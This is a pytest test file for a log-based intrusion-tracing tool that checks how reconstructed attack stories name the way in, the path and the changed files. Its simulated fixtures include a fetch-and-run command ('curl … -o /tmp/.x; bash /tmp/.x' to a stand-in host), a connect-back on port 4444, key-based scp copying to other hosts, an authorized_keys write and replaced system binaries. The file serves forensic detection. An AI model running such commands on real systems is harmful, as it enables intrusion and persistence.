"""The printed story of short logs: who came in through which port, what older servers did for them, what it leaves out."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.ingest.script import Script
from tests.provenance.intake.logs import write_log
from tests.provenance.recordings.recordings import ingested, run
from tests.provenance.trace.servers import NEW, OUTSIDE, PEER, harm, server, story_of


@pytest.mark.parametrize(
    ("ports", "expected"),
    [
        ((), "through shopd (pid 100"),
        ((8080,), "through port 8080 of shopd (pid 100"),
        ((80, 443), "through port 80 or 443 of shopd (pid 100"),
        ((1, 2, 3, 4), "through shopd (pid 100"),
    ],
)
def test_a_way_in_names_the_ports_on_which_the_server_listens(
    tmp_path: Path, ports: tuple[int, ...], expected: str
) -> None:
    script = Script()
    shop = server(script, *ports)
    shop.accepts(3, 9, PEER, 40_000)
    harm(shop)
    assert expected in story_of(tmp_path, script, "^bash /tmp/.x$")


@pytest.mark.parametrize(("accepts", "expected"), [(1, None), (2, "; 1 more time at "), (3, "; 2 more times from ")])
def test_a_peer_came_as_often_as_it_was_accepted(tmp_path: Path, accepts: int, expected: str | None) -> None:
    """The login over an accepted connection, and what a program fetches from the peer later, are no other arrivals."""
    script = Script()
    shop = server(script, 22)
    for number in range(accepts):
        shop.accepts(3, 9, PEER, 40_000 + number)
    logs_in(script, 100, PEER)
    shell = harm(shop)
    shell.sockets(6)
    shell.connects(6, PEER, 80)
    line = next(line for line in story_of(tmp_path, script, "^bash /tmp/.x$").splitlines() if line.startswith("Way in"))
    assert line.endswith(" UTC") if expected is None else expected in line


def logs_in(script: Script, pid: int, address: str) -> None:
    """A server's process opens session 7 of uid 0 for a client."""
    session = "old-auid=4294967295 auid=0 tty=(none) old-ses=4294967295 ses=7 res=1"
    login = f'op=login id=0 exe="/usr/sbin/shopd" hostname={address} addr={address} terminal=/dev/pts/0 res=success'
    script.message("LOGIN", f"pid={pid} uid=0 {session}")
    script.message("USER_LOGIN", f"pid={pid} uid=0 auid=0 ses=7 msg='{login}'")


@pytest.mark.parametrize(("clients", "expected"), [(1, True), (2, False)])
def test_an_arrival_says_whom_its_process_logged_in_unless_that_served_another_client_too(
    tmp_path: Path, clients: int, expected: bool
) -> None:
    """Of a process with several clients, no record shows which of them logged in."""
    script = Script()
    shop = server(script, 22)
    for number in range(clients):
        shop.accepts(3, 9, PEER, 40_000 + number)
    logs_in(script, 100, PEER)
    harm(shop)
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    assert f"{PEER}:40000 enters through port 22 of shopd (uid 0)" in story
    assert ("and logs in as uid 0" in story) is expected


def test_a_process_whose_arrival_is_no_step_says_whom_it_logged_in_from_where(tmp_path: Path) -> None:
    """The log began after the client had connected, and the file that it relies on came from another peer."""
    script = Script()
    shop = server(script, 8080)
    shop.accepts(3, 9, PEER, 40_000)
    shop.opens("/root/.ssh/authorized_keys", NEW, fd=5, created=True)
    sshd = script.process(300, comm="sshd", exe="/usr/sbin/sshd")
    sshd.execs("/usr/sbin/sshd", "sshd")
    sshd.opens("/root/.ssh/authorized_keys", fd=6)
    logs_in(script, 300, "192.0.2.41")
    harm(sshd, 301)
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    assert "logs in uid 0 from 192.0.2.41" in story


def test_what_a_daemon_older_than_the_log_did_is_its_own(tmp_path: Path) -> None:
    """Nothing is known of the parent that its records name, which is init."""
    script = Script()
    daemon = script.process(300, comm="pool", exe="/usr/sbin/pool")
    daemon.opens("/srv/hook.sh", NEW, fd=5, created=True)
    run = daemon.forks(301)
    run.execs("/bin/bash", "bash", "/srv/hook.sh")
    run.opens("/srv/hook.sh", fd=3)
    story = story_of(tmp_path, script, "^bash /srv/hook.sh$")
    assert "uid 0: pool → writes /srv/hook.sh" in story


def test_a_connection_within_the_host_that_is_guessed_is_marked(tmp_path: Path) -> None:
    """No record says which connect the accept of an older daemon is of."""
    script = Script()
    front = server(script, 8080)
    pool = script.process(300, comm="pool", exe="/usr/sbin/pool")
    front.accepts(3, 9, PEER, 40_000)
    front.sockets(7, domain=1)
    front.connects_unix(7, "/run/pool.sock")
    pool.call("accept", 3, 4096, 4096, exit=5, records=(("SOCKADDR", "saddr=0100"),))
    harm(pool)
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    assert f"Way in     {PEER}:40000/tcp" in story
    assert "; local connection guessed, confidence 0.6" in story


def test_a_copy_of_a_server_has_the_port_of_the_server(tmp_path: Path) -> None:
    script = Script()
    worker = server(script, 8080).forks(150)
    worker.accepts(3, 9, PEER, 40_000)
    harm(worker)
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    assert "through port 8080 of shopd (pid 150" in story
    assert f"{PEER}:40000 enters through port 8080 of shopd (uid 0)" in story


def test_a_port_that_is_opened_after_the_peer_came_in_is_not_the_one(tmp_path: Path) -> None:
    script = Script()
    shop = server(script, 8080)
    shop.accepts(3, 9, PEER, 40_000)
    harm(shop)
    shop.listens(4, "0.0.0.0", 9090)
    assert "through port 8080 of shopd" in story_of(tmp_path, script, "^bash /tmp/.x$")


def test_a_server_is_shown_by_what_it_began_after_the_peer_came_in(tmp_path: Path) -> None:
    script = Script()
    shop = server(script, 8080)
    shop.opens("/srv/state", NEW, fd=6, created=True)
    shop.opens("/srv/shop.log", NEW, fd=7, created=True)
    shop.accepts(3, 9, PEER, 40_000)
    shop.opens("/srv/up/page.php", NEW, fd=8, created=True)
    shop.opens("/srv/log/day", NEW, fd=10, created=True)
    harm(shop)
    script.wait(60_000)
    shop.opens("/srv/dump", NEW, fd=11, created=True)
    shop.exits()
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    assert "shopd → writes /srv/up/page.php" in story
    assert all(name not in story for name in ("/srv/state", "/srv/shop.log", "/srv/log/day", "/srv/dump"))


def test_a_library_that_a_program_of_the_story_wrote_is_shown_where_it_is_loaded(tmp_path: Path) -> None:
    script = Script()
    shop = server(script, 8080)
    shop.accepts(3, 9, PEER, 40_000)
    fetch = shop.forks(201)
    fetch.execs("/usr/bin/curl", "curl", "http://203.0.113.9/l")
    fetch.opens("/srv/lib/libz.so.9", NEW, fd=6, created=True)
    fetch.exits()
    shell = harm(shop)
    for name in ("/usr/lib/libc.so.6", "/srv/lib/libz.so.9"):
        shell.opens(name, fd=6)
        shell.call("mmap", 0, 4096, 5, 2, exit=0x7F00, records=(("MMAP", "fd=6 flags=0x2"),))
        shell.closes(6)
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    assert "curl http://203.0.113.9/l → writes /srv/lib/libz.so.9" in story
    assert "libc.so.6" not in story


@pytest.mark.parametrize(
    "path",
    [
        "/usr/local/bin/netd",
        "/usr/sbin/sshd",
        "/bin/ps",
        "/usr/share/netd/run.sh",
        "/usr/local/etc/netd.conf",
        "/usr/lib/python3/dist-packages/site.pth",
        "/opt/app/lib/python3.11/site-packages/urllib/__init__.py",
        "/usr/src/linux/Makefile",
    ],
)
def test_a_program_that_a_program_of_the_story_put_in_place_is_shown(tmp_path: Path, path: str) -> None:
    """What is installed is read by everybody and written by few: a daemon of the intruder's, a replaced one."""
    script = Script()
    shop = server(script, 8080)
    shop.accepts(3, 9, PEER, 40_000)
    fetch = harm(shop).forks(201)
    fetch.execs("/usr/bin/curl", "curl", "http://203.0.113.9/l")
    fetch.opens(path, NEW, fd=6, created=True)
    story = story_of(tmp_path, script, "^bash /tmp/.x$", "--steps", "all")
    assert path in story.split("Changed", 1)[-1].split("Contacted", 1)[0], story


@pytest.mark.parametrize(
    "path",
    ["/usr/lib/python3/dist-packages/__pycache__/site.pyc", "/usr/share/mime/mime.cache", "/sys/kernel/x", "/dev/x"],
)
def test_what_runs_of_programs_leave_is_not_shown(tmp_path: Path, path: str) -> None:
    script = Script()
    shop = server(script, 8080)
    shop.accepts(3, 9, PEER, 40_000)
    harm(shop).opens(path, NEW, fd=6, created=True)
    assert path not in story_of(tmp_path, script, "^bash /tmp/.x$", "--steps", "all")


def test_the_many_files_of_a_package_are_counted(tmp_path: Path) -> None:
    """The story stays on one screen, and its other steps stay on it."""
    script = Script()
    shop = server(script, 8080)
    shop.accepts(3, 9, PEER, 40_000)
    shell = harm(shop)
    install = shell.forks(201)
    install.execs("/usr/bin/dpkg", "dpkg", "-i", "/tmp/p.deb")
    for number in range(60):
        install.opens(f"/usr/share/p/{number // 20}/{number}", NEW, fd=6, created=True)
        if number % 6 == 0:
            install.forks(300 + number).execs("/bin/true", "true")
            script.wait(200)
    shell.forks(202).execs("/usr/bin/id", "id")
    lines = story_of(tmp_path, script, "^bash /tmp/.x$").splitlines()
    assert sum("dpkg" in line for line in lines) <= 3, lines
    assert any("uid 0: id" in line for line in lines)
    changed = next(line for line in lines if line.startswith("Changed"))
    assert "20 files in /usr/share/p/0/, 20 files in /usr/share/p/1/, 20 files in /usr/share/p/2/" in changed


def test_the_ssh_of_an_scp_is_shown_as_scp_and_settings_are_shown_short(tmp_path: Path) -> None:
    script = Script()
    shop = server(script, 8080)
    shop.accepts(3, 9, PEER, 40_000)
    shell = harm(shop)
    copy = shell.forks(202)
    copy.execs("/usr/bin/scp", "scp", "-o", "StrictHostKeyChecking=no", "/tmp/a", "ops@10.0.0.7:b")
    transport = copy.forks(203)
    transport.execs(
        "/usr/bin/ssh", "/usr/bin/ssh", "-x", "-oPermitLocalCommand=no", "-l", "ops", "-s", "10.0.0.7", "sftp"
    )
    transport.opens("/root/.ssh/id_rsa", fd=4)
    other = shell.forks(204)
    other.execs("/usr/bin/ssh", "/usr/bin/ssh", "-x", "-oPermitLocalCommand=no", "ops@10.0.0.8")
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    assert "scp [settings] /tmp/a ops@10.0.0.7:b → reads /root/.ssh/id_rsa" in story
    assert "-s 10.0.0.7 sftp" not in story
    assert "/usr/bin/ssh [settings] ops@10.0.0.8" in story
    assert "StrictHostKeyChecking=no" in story_of(tmp_path, script, "^bash /tmp/.x$", "--steps", "all")


def test_the_path_names_the_programs_and_files_between_the_way_in_and_the_alert(tmp_path: Path) -> None:
    script = Script()
    shop = server(script, 8080)
    timer = script.process(300, comm="timer", exe="/usr/sbin/timer")
    timer.execs("/usr/sbin/timer", "timer")
    shop.accepts(3, 9, PEER, 40_000)
    writer = shop.forks(200)
    writer.execs("/bin/sh", "sh", "-c", "echo x > /srv/jobs/refresh")
    writer.opens("/srv/jobs/refresh", NEW, fd=1, created=True)
    writer.exits()
    job = timer.forks(301)
    job.execs("/bin/bash", "bash", "/srv/jobs/refresh")
    job.opens("/srv/jobs/refresh", fd=3)
    job.sockets(5)
    job.connects(5, *OUTSIDE)
    story = story_of(tmp_path, script, "^bash /srv/jobs/refresh$")
    assert "Path       shopd > sh > /srv/jobs/refresh > bash /srv/jobs/refresh (started by timer)" in story


def test_who_came_in_by_what_may_be_a_thread_is_named_with_that_doubt(tmp_path: Path) -> None:
    """An old kernel: one thread of a server accepts, another one starts a program; the log begins after both."""
    script = Script()
    acceptor, worker = (script.process(number, comm="java", exe="/usr/bin/java") for number in (201, 202))
    acceptor.accepts(3, 9, PEER, 40_000)
    worker.call("vfork", exit=300)
    shell = script.process(300, 200, comm="java", exe="/usr/bin/java")
    shell.execs("/bin/bash", "bash", "/tmp/.x")
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    assert f"Way in     {PEER}:40000/tcp" in story
    assert "; perhaps pid 201 is a thread of pid 200: not proved" in story
    assert "pid 201 may be a thread of pid 200" in story


def test_a_server_that_hands_connections_to_a_worker_over_a_channel(tmp_path: Path) -> None:
    """As node's cluster does: the worker was begun before the peers came, and no record shows which connection it was given."""
    script = Script()
    primary = server(script, 3000)
    primary.pairs(20, 21)
    worker = primary.forks(150)
    worker.dups(21, 3)
    worker.execs("/usr/bin/node", "node", "worker.js")
    for number, peer in enumerate(("10.2.0.5", "10.2.0.6", PEER)):
        script.wait(3_000)
        primary.accepts(3, 30 + number, peer, 40_000 + number)
        primary.call("sendmsg", 20, 0x7FFC0000, exit=64)
        worker.call("recvmsg", 3, 0x7FFC0000, exit=64)
    shell = worker.forks(200)
    shell.execs("/bin/sh", "sh", "-c", "curl -s http://203.0.113.9/x -o /tmp/.x; bash /tmp/.x")
    curl = shell.forks(201)
    curl.execs("/usr/bin/curl", "curl", "-s", "http://203.0.113.9/x", "-o", "/tmp/.x")
    curl.sockets(3)
    curl.connects(3, "203.0.113.9", 80)
    curl.opens("/tmp/.x", NEW, fd=4, created=True)
    curl.exits()
    last = shell.forks(202)
    last.execs("/bin/bash", "bash", "/tmp/.x")
    last.opens("/tmp/.x", fd=3)
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    assert f"Way in     {PEER}:40002/tcp" in story
    assert "external address, 12 ms before its first effect" in story


@pytest.mark.parametrize("is_fork_recorded", [False, True])
def test_a_copy_that_may_be_older_than_the_log_makes_later_peers_as_likely(
    tmp_path: Path, is_fork_recorded: bool
) -> None:
    """As rootlessport does: one process accepts and its child connects onward. What joins them is older than the log too."""
    script = Script()
    script.process(50).forks(51).exits()
    front = script.process(100, comm="port", exe="/usr/bin/port")
    front.accepts(7, 20, "10.3.0.5", 40_000)
    child = front.forks(106) if is_fork_recorded else front.child(106)
    for number in range(4):
        child.connects_unix(20, "/run/back.sock")
        front.accepts(7, 21 + number, PEER, 40_001 + number)
    shell = child.forks(200)
    shell.execs("/bin/bash", "bash", "/tmp/.x")
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    doubt = "no record shows the start of pid 106: if it is older, who came in later is as likely"
    assert "Way in     10.3.0.5:40000/tcp" in story
    assert (doubt in story) != is_fork_recorded


@pytest.mark.parametrize("peer", [PEER, "10.9.8.7"])
def test_a_peer_that_is_called_back_at_its_own_address_is_the_way_in(tmp_path: Path, peer: str) -> None:
    """The log never saw the server bind its port, so only the times join what the server accepts with what the shell opens."""
    script = Script()
    shop = script.process(100, comm="shopd", exe="/usr/sbin/shopd")
    shop.accepts(3, 8, "10.1.1.1", 39_000)
    script.wait(20_000)
    shop.accepts(3, 9, peer, 40_000)
    shell = shop.forks(200)
    shell.execs("/bin/bash", "bash", "/tmp/.x")
    shell.sockets(5)
    shell.connects(5, peer, 4444)
    story = story_of(tmp_path, script, "^bash /tmp/.x$")
    assert f"Way in     {peer}:40000/tcp" in story


def test_a_peer_on_the_internet_is_a_candidate_although_its_times_fit_another_host(tmp_path: Path) -> None:
    """Another host connected somewhere when the peer came in. Nothing else says that this was the peer's connection."""
    web, other = Script(node="web01"), Script(node="db01")
    shop = web.process(100, comm="shopd", exe="/usr/sbin/shopd")
    updater = other.process(300, comm="updater", exe="/usr/bin/updater")
    web.wait(30_000)
    other.wait(30_000)
    updater.connects(5, OUTSIDE[0], 443)
    web.wait(50)
    shop.accepts(3, 9, PEER, 40_000)
    shop.forks(200).execs("/bin/bash", "bash", "/tmp/.x")
    logs = [write_log(tmp_path / f"{name}.log", script.text()) for name, script in (("web", web), ("db", other))]
    store = ingested(tmp_path / "s.db", logs)
    code, output = run("backtrack", "--store", store, "--command", "^bash /tmp/.x$", "--wide")
    assert code == 0 and "db01 (connection guessed" in output
    assert f"Way in     {PEER}:40000/tcp" in output
